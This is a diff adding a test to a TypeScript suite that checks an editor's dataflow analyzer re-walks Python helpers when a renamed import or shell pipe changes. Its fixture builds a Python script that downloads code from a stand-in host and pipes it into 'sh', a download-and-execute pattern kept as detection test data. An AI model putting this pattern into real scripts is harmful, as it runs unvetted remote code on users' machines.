@@ -260,6 +260,44 @@ describe('dataflow: helper walks reused from the previous text (editor)', () => 
     assert.ok(reused > 30, `only ${reused} helper walks reused in ${edited} scripts`);
   });
 
+  it('walks a Python helper again when a renamed import it calls through, or the shell pipe it writes to, changes', async () => {
+    const python = (variant: { typed: string; module?: string; stdin?: string }): string =>
+      [
+        'import subprocess',
+        `import ${variant.module ?? 'urllib.request'} as net`,
+        '',
+        // Calls through the renamed import: a download only while `net` is urllib.request.
+        'def fetch():',
+        '    return net.urlopen("https://code.example.net/a.py").read()',
+        '',
+        // Opens a pipe into `shell`: the shell's program only while its input is a pipe.
+        'def start():',
+        '    global shell',
+        `    shell = subprocess.Popen(["sh"], stdin=subprocess.${variant.stdin ?? 'PIPE'})`,
+        '',
+        // Writes into the pipe start made.
+        'def run(code):',
+        '    shell.communicate(code)',
+        '',
+        'def draft():',
+        `    return "${variant.typed}"`,
+        '',
+        'start()',
+        'run(fetch())',
+        '',
+      ].join('\n');
+    const { reused, outcomes } = await reusedPerWalk([
+      python({ typed: 'd' }),
+      python({ typed: 'dr' }),
+      python({ typed: 'dr', module: 'json' }),
+      python({ typed: 'dr' }),
+      python({ typed: 'dr', stdin: 'DEVNULL' }),
+    ]);
+    assert.ok(outcomes[1]?.includes('standard input'), 'the download reaches the shell');
+    for (const step of [2, 4]) assert.notEqual(outcomes[step], outcomes[step - 1], `step ${step} changes the outcome`);
+    assert.ok(reused[1] !== undefined && reused[1] > 0, 'unchanged helpers are reused');
+  });
+
   it('walks a shell function again when a variable it reads is assigned anywhere in the script', async () => {
     const shell = (variant: { typed: string; keyAssigned?: boolean }): string =>
       [
